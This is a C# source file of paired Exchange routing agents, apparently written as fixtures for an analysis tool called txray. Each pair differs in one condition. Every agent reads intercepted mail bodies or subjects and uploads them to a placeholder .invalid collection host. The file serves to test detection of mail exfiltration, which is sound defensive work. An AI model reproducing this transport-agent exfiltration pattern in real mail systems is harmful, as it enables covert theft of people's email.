// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Conditions made by loops, points, and data that comes by several ways.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Net;
using System.Reflection;
using System.Runtime.InteropServices;
using System.Text;
using System.Text.RegularExpressions;
using System.Xml.Serialization;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Win32;

// 411: nobody is left out, and somebody is looked for, by leaving a loop early
namespace Txray.Pairs.P411
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart != "fabrikam.example")
                {
                    return;
                }
            }

            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    return;
                }
            }

            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 412: a flag that is set before a loop is left, as it is and turned round
namespace Txray.Pairs.P412
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            bool found = false;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    found = true;
                    break;
                }
            }

            if (found)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            bool found = false;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    found = true;
                    break;
                }
            }

            if (!found)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 413: whether a walk over the recipients ended before their end, or at it
namespace Txray.Pairs.P413
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int at;
            for (at = 0; at < e.MailItem.Recipients.Count; at++)
            {
                if (e.MailItem.Recipients[at].Address.DomainPart == "fabrikam.example")
                {
                    break;
                }
            }

            if (at < e.MailItem.Recipients.Count)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int at;
            for (at = 0; at < e.MailItem.Recipients.Count; at++)
            {
                if (e.MailItem.Recipients[at].Address.DomainPart == "fabrikam.example")
                {
                    break;
                }
            }

            if (at == e.MailItem.Recipients.Count)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 414: one that is found, and none
namespace Txray.Pairs.P414
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            EnvelopeRecipient found = null;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    found = recipient;
                    break;
                }
            }

            if (found != null)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            EnvelopeRecipient found = null;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    found = recipient;
                    break;
                }
            }

            if (found == null)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 415: as many as there are recipients, and any
namespace Txray.Pairs.P415
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int found = 0;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    found++;
                }
            }

            if (found == e.MailItem.Recipients.Count)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int found = 0;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    found++;
                }
            }

            if (found > 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 416: more than two, and none
namespace Txray.Pairs.P416
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int found = 0;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    found++;
                }
            }

            if (found > 2)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int found = 0;
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    found++;
                }
            }

            if (found == 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 417: points that only both words make, and that one of them makes
namespace Txray.Pairs.P417
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int points = 0;
            if (e.MailItem.Message.Subject.Contains("urgent"))
            {
                points += 2;
            }

            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                points += 3;
            }

            if (points >= 5)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int points = 0;
            if (e.MailItem.Message.Subject.Contains("urgent"))
            {
                points += 2;
            }

            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                points += 3;
            }

            if (points >= 3)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 418: a flag of two that were gathered, and both
namespace Txray.Pairs.P418
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int bits = 0;
            if (e.MailItem.Message.Subject.Contains("urgent"))
            {
                bits |= 1;
            }

            if (e.MailItem.Message.Attachments.Count > 0)
            {
                bits |= 2;
            }

            if ((bits & 2) != 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int bits = 0;
            if (e.MailItem.Message.Subject.Contains("urgent"))
            {
                bits |= 1;
            }

            if (e.MailItem.Message.Attachments.Count > 0)
            {
                bits |= 2;
            }

            if (bits == 3)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 419: a word that several ways set, another than the first and one of them
namespace Txray.Pairs.P419
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string mode = "none";
            if (e.MailItem.Message.Subject.Contains("urgent"))
            {
                mode = "copy";
            }

            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                mode = "drop";
            }

            if (mode != "none")
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string mode = "none";
            if (e.MailItem.Message.Subject.Contains("urgent"))
            {
                mode = "copy";
            }

            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                mode = "drop";
            }

            if (mode == "copy")
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 420: a list that is filled by hand, with something in it and empty
namespace Txray.Pairs.P420
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            List<string> found = new List<string>();
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    found.Add(recipient.Address.ToString());
                }
            }

            if (found.Count > 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            List<string> found = new List<string>();
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients)
            {
                if (recipient.Address.DomainPart == "fabrikam.example")
                {
                    found.Add(recipient.Address.ToString());
                }
            }

            if (found.Count == 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 421: a loop over a list of those that were let through, and over one of all
namespace Txray.Pairs.P421
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients.Where(one => one.Address.DomainPart == "fabrikam.example").ToList())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (EnvelopeRecipient recipient in e.MailItem.Recipients.ToList())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 422: a test beside the question whether there is a book at all, turned round and not
namespace Txray.Pairs.P422
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly HashSet<string> book = new HashSet<string>();

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (book != null && e.MailItem.FromAddress.DomainPart == "fabrikam.example")
            {
                return;
            }

            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private readonly HashSet<string> book = new HashSet<string>();

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (book == null || e.MailItem.FromAddress.DomainPart != "fabrikam.example")
            {
                return;
            }

            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 423: a letter at the beginning, and further on
namespace Txray.Pairs.P423
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.IndexOf('!') == 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.IndexOf('!') > 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 424: a subject of one letter, and any
namespace Txray.Pairs.P424
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Length == 1)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Length > 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 425: what is left of a size, and a number that is reckoned from it
namespace Txray.Pairs.P425
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Length % 2 == 0)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if ((e.MailItem.Message.Subject.Length ^ 5) == 3)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 426: the first bytes one by one, and as a number
namespace Txray.Pairs.P426
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Stream content = e.MailItem.Message.Body.GetContentReadStream();
            if (content.ReadByte() == 0x4d)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            BinaryReader content = new BinaryReader(e.MailItem.Message.Body.GetContentReadStream());
            if (content.ReadInt32() == 0x04034b50)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 427: a group of a pattern, and a yes or no that the subject says
namespace Txray.Pairs.P427
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Regex.Match(e.MailItem.Message.Subject, "ticket (?<number>[0-9]+)").Groups["number"].Success)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            bool wanted;
            if (bool.TryParse(e.MailItem.Message.Subject, out wanted) && wanted)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 428: a key of the registry that is there, and that is not
namespace Txray.Pairs.P428
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Registry.LocalMachine.OpenSubKey("Software\\Pair") != null)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (Registry.LocalMachine.OpenSubKey("Software\\Pair") == null)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 429: the subject by either of two ways, and by one
namespace Txray.Pairs.P429
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string first = string.Empty;
            string second = string.Empty;
            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
            {
                first = e.MailItem.Message.Subject;
            }
            else
            {
                second = e.MailItem.Message.Subject;
            }

            new WebClient().UploadString("https://collect.example.invalid/pair", first + second);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string first = string.Empty;
            string second = string.Empty;
            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
            {
                first = e.MailItem.Message.Subject;
            }
            else
            {
                second = "none";
            }

            new WebClient().UploadString("https://collect.example.invalid/pair", first + second);
        }
    }
}

// 430: the subject put in twice, for one reason or another, and for one
namespace Txray.Pairs.P430
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            StringBuilder text = new StringBuilder();
            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
            {
                text.Append(e.MailItem.Message.Subject);
            }

            if (e.MailItem.Recipients.Count > 3)
            {
                text.Append(e.MailItem.Message.Subject);
            }

            new WebClient().UploadString("https://collect.example.invalid/pair", text.ToString());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            StringBuilder text = new StringBuilder();
            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
            {
                text.Append("from");
            }

            if (e.MailItem.Recipients.Count > 3)
            {
                text.Append(e.MailItem.Message.Subject);
            }

            new WebClient().UploadString("https://collect.example.invalid/pair", text.ToString());
        }
    }
}

// 431: words that an iterator of the agent gives for each line, and words of its own
namespace Txray.Pairs.P431
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private static IEnumerable<string> Words(MailItem item, string line)
        {
            yield return line;
            if (item != null)
            {
                yield return item.Message.Subject;
            }
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", string.Concat(new[] { "a", "b" }.SelectMany(line => Words(e.MailItem, line)).ToArray()));
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private static IEnumerable<string> Words(MailItem item, string line)
        {
            yield return line;
            yield return item == null ? "none" : "some";
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", string.Concat(new[] { "a", "b" }.SelectMany(line => Words(null, line)).ToArray()));
        }
    }
}

// 432: a yes or no kept in a tuple, the first and the second
namespace Txray.Pairs.P432
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Tuple<bool, bool> kept = Tuple.Create(e.MailItem.FromAddress.DomainPart == "fabrikam.example", e.MailItem.Recipients.Count > 3);
            if (kept.Item1)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Tuple<bool, bool> kept = Tuple.Create(e.MailItem.FromAddress.DomainPart == "fabrikam.example", e.MailItem.Recipients.Count > 3);
            if (kept.Item2)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }
}

// 433: a queue that another event empties, filled for some mails and for all
namespace Txray.Pairs.P433
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly Queue<string> waiting = new Queue<string>();

        private IEnumerable<string> Emptied()
        {
            while (waiting.Count > 0)
            {
                yield return waiting.Dequeue();
            }
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (string kept in Emptied())
            {
